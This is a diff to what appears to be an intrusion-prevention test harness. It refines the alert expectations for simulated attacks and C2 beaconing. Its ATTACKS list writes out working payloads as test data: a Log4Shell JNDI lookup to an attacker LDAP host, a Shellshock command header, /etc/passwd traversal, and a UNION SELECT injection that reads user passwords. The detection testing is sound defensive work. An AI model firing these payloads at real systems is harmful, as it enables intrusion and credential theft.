@@ -40,7 +40,9 @@ ATTACKS = (
     Attack("Log4Shell", "/login", ("-A", f"${{jndi:ldap://{ATTACKER.ipv4}:1389/a}}"), r"(?i)log4"),
     Attack("Shellshock", "/cgi-bin/status", ("-A", "() { :; }; /bin/ping -c 3 203.0.113.66"), r"(?i)shellshock"),
     Attack("path traversal", "/files/../../../../etc/passwd", (), r"(?i)traversal|passwd"),
-    Attack("SQL injection", "/item?id=1%27%20UNION%20SELECT%20name,password%20FROM%20users--", (), r"(?i)sql"),
+    Attack(
+        "SQL injection", "/item?id=1%27%20UNION%20SELECT%20name,password%20FROM%20users--", (), r"(?i)sql injection"
+    ),
 )
 _SCANNER = Attack("scanner's burst", "/", ("-A", "sqlmap/1.8#stable (https://sqlmap.org)"), r"(?i)scan")
 
@@ -82,7 +84,9 @@ class IntrusionScene:
         ordinary = visit.complete and visit.size == len(ANSWER_BODY) and reached
         checks.add("ordinary request", expected="passes", seen=visit, ok=ordinary)
         wanted = [
-            Expected(function="ips", direction="in", terminal=SERVER, severity=1, rule=attack.rule)
+            Expected(
+                function="ips", direction="in", terminal=SERVER, severity=1, rule=attack.rule, remote=ATTACKER.ipv4
+            )
             for attack in (*ATTACKS, _SCANNER)
         ]
         check_alerts(lab, checks, wanted, known=known)
@@ -108,6 +112,6 @@ class BeaconScene:
         checks.equal("requests that reached the C2", 0, len(lab.listeners.c2.arrivals))
         wanted = [
             Expected(function="dangerous-site", direction="out", terminal=PC2, destination=r"c2\.test", severity=3),
-            Expected(function="ips", direction="out", terminal=PC2, severity=3, rule=r"(?i)beacon"),
+            Expected(function="ips", direction="out", terminal=PC2, severity=3, rule=r"(?i)beacon", remote=C2.ipv4),
         ]
         check_alerts(lab, checks, wanted, known=known)
